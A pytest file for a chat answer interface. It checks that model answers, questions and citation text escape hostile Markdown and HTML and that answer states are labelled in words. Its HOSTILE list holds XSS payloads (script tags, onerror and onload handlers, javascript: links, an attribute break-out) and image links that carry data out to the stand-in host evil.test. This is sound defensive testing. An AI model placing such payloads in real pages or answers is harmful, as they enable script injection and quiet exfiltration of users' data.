"""What the pages show: hostile text stays text, honest states are said in words, sources name their page."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from html import unescape
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from app.services.shapes import Citation, MessagePublic
from app.ui.format import (
    answer_markdown,
    message_rows,
    progress_rows,
    question_html,
    size_words,
)
from app.ui.sources import sources_html

HOSTILE = (
    "![pixel](http://evil.test/x.png?d=secret)",
    "![pixel][ref]\n\n[ref]: http://evil.test/x.png",
    "\\![pixel](http://evil.test/x.png)",
    "!\\[pixel](http://evil.test/x.png)",
    "[click](javascript:alert(1))",
    "[click\\](http://evil.test)",
    "<img src=http://evil.test/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</div></details><img src=x>",
    "<http://evil.test/auto>",
    "http://evil.test/bare and www.evil.test and me@evil.test",
    "`<img src=x>` and ``<b>``",
    "```html\n<img src=http://evil.test>\n![a](http://evil.test)\n```",
    "```\nnever closed <img src=x>\n\n<script>",
    "~~~\n<img src=x>\n~~~",
    "> ```\n> <img src=x>\n> ```",
    "text [P1](http://evil.test)",
    "$$\\href{http://evil.test}{x}$$",
    "&lt;img src=x&gt; <!-- <img> -->",
    "line\n\n<div>\n\n<img src=x>",
)
OURS = {
    "button",
    "p",
    "ol",
    "ul",
    "li",
    "strong",
    "em",
    "code",
    "pre",
    "br",
    "blockquote",
    "span",
    "div",
    "table",
    "h1",
    "h2",
}

# The same dialect as the browser's: CommonMark with tables and addresses made into links, HTML let through.
dialect = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("table")


class Markup(HTMLParser):
    """The tags and attribute names a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.mark.parametrize("text", HOSTILE)
def test_an_answer_holds_no_image_no_link_and_no_foreign_tag(text: str) -> None:
    markdown = answer_markdown(text, ["P1"])
    html = dialect.render(markdown)
    assert Markup(html).tags <= OURS, html
    assert Markup(html).attributes <= {"class", "type", "value"}, html
    assert "://" not in markdown
    assert "www." not in markdown


def test_what_is_not_let_through_is_read_as_it_was_written() -> None:
    text = 'See ![x](http://a.test/?d=1), <img src="x">, &lt;b&gt;, [a](b), me@a.test and www.a.test.'
    html = dialect.render(answer_markdown(text))
    assert unescape(re.sub(r"<[^>]+>", "", html)).strip() == text


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("place", ["question", "title", "quote"])
def test_text_from_outside_is_escaped_wherever_it_stands(text: str, place: str) -> None:
    html = {
        "question": lambda: question_html(text),
        "title": lambda: sources_html([citation(title=text)]),
        "quote": lambda: sources_html([citation(quote=text)]),
    }[place]()
    assert not Markup(html).tags & {"img", "script", "svg", "iframe", "a"}
    assert not [name for name in Markup(html).attributes if name.startswith("on") or name in ("src", "href", "style")]
    # One line that begins with a tag: Markdown reads the whole as HTML and nothing of it as Markdown.
    assert "\n" not in html
    assert dialect.render(html).strip() == html.strip()


def test_an_attribute_cannot_be_left() -> None:
    html = sources_html([citation(title='" onmouseover="alert(1)')])
    assert "onmouseover" in html
    assert "onmouseover" not in Markup(html).attributes


def test_emphasis_lists_tables_and_code_stay() -> None:
    html = dialect.render(answer_markdown("**Yes**, with `code`:\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    for kept in ("<strong>Yes</strong>", "<code>code</code>", "<ol>", "<td>2</td>"):
        assert kept in html


def test_a_draft_in_a_code_block_keeps_its_lines_and_placeholders() -> None:
    html = dialect.render(answer_markdown("Send this:\n\n```\nDear [Name],\n\nyours\n```\n\nGood luck."))
    assert "<pre>Dear &#91;Name],<br><br>yours</pre>" in html
    assert "<p>Good luck.</p>" in html


def test_known_labels_are_set_off_and_stay_readable() -> None:
    html = dialect.render(answer_markdown("It is England [P1][G2], not [P7].", ["P1", "G2"]))
    assert html.count('class="cite"') == 2
    assert re.sub(r"<[^>]+>", "", html).strip() == "It is England [P1][G2], not [P7]."


@pytest.mark.parametrize(
    ("state", "citations", "said"),
    [
        ("extractive", 1, "no language model wrote this"),
        ("direct", 0, "without looking anything up"),
        ("nothing_found", 0, "Nothing found"),
        ("partial", 1, "Incomplete"),
        ("failed", 0, "failed"),
        ("answered", 0, "names no source"),
    ],
)
def test_every_state_but_a_cited_answer_is_said_in_words(state: str, citations: int, said: str) -> None:
    rows = message_rows(message(state=state, citations=[citation()] * citations))
    assert said in rows[1]["content"]


def test_a_cited_answer_needs_no_words() -> None:
    rows = message_rows(message(citations=[citation()]))
    assert 'class="state' not in rows[1]["content"]
    assert [row["role"] for row in rows] == ["assistant", "assistant"]


def test_why_is_asked_for_later_and_only_where_there_is_a_trace() -> None:
    assert (
        '<details class="why" id="why-2"><summary>Why this answer</summary></details>'
        in (message_rows(message(citations=[citation()]))[1]["content"])
    )
    assert message_rows(message(trace_id=None, citations=[citation()]))[1]["content"].count("Why") == 0


def test_an_answer_stopped_before_its_first_word_says_so() -> None:
    assert message_rows(message(state="partial", text=""))[0]["content"] == "Stopped before the answer began."


def test_an_answer_on_its_way_shows_what_is_done_until_words_come() -> None:
    assert "Searching &lt;b&gt;" in progress_rows("", [], "Searching <b>")[0]["content"]
    assert progress_rows("So far ", ["P1"], "x")[0]["content"] == "So far"


def test_sizes_as_people_read_them() -> None:
    assert [size_words(n) for n in (15, 121_400, 50_000_000, 1_250_000)] == ["15 bytes", "121 kB", "50 MB", "1.2 MB"]


def citation(**changed: Any) -> Citation:
    fields: dict[str, Any] = {
        "label": "P1", "document_id": "d", "chunk_id": "c", "title": "Deal", "kb": "personal", "page": 3,
        "quote": "governed by the laws of England", "standing": "signed",
    }  # fmt: skip
    return Citation.model_validate(fields | changed)


def message(**changed: Any) -> MessagePublic:
    fields: dict[str, Any] = {
        "id": "2", "conversation": "1", "role": "assistant", "text": "England [P1].", "intent": "personal",
        "state": "answered", "citations": [], "trace_id": "t", "rating": None, "created": datetime.now(UTC),
    }  # fmt: skip
    return MessagePublic.model_validate(fields | changed)
